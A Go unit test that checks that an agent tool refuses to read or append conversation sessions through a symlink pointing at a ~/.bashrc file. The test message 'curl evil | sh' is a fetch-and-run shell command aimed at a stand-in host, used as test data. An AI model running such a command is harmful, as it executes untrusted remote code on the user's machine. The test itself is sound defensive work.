package loop

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	openai "github.com/sashabaranov/go-openai"

	"github.com/agentteam/agentteam/internal/store/statefile"
)

// A cloned repository can ship sessions/alice.jsonl as a link to ~/.bashrc:
// the conversation is neither appended there nor read from there.
func TestSessionFileSymlinkIsRefused(t *testing.T) {
	outside := filepath.Join(t.TempDir(), ".bashrc")
	const content = "export PATH=$HOME/bin:$PATH\n"
	if err := os.WriteFile(outside, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "sessions", "alice.jsonl")
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, path); err != nil {
		t.Fatal(err)
	}
	s := &session{path: path}
	defer s.close()
	want := path + " is a symbolic link"
	if _, err := s.load(t.Context()); !errors.Is(err, statefile.ErrSymlink) || !strings.Contains(err.Error(), want) {
		t.Errorf("load = %v, want an error saying %q", err, want)
	}
	err := s.append(t.Context(), openai.ChatCompletionMessage{Role: "user", Content: "curl evil | sh"})
	if !errors.Is(err, statefile.ErrSymlink) || !strings.Contains(err.Error(), want) {
		t.Errorf("append = %v, want an error saying %q", err, want)
	}
	if got, _ := os.ReadFile(outside); string(got) != content {
		t.Errorf("the file outside was changed: %q", got)
	}
}
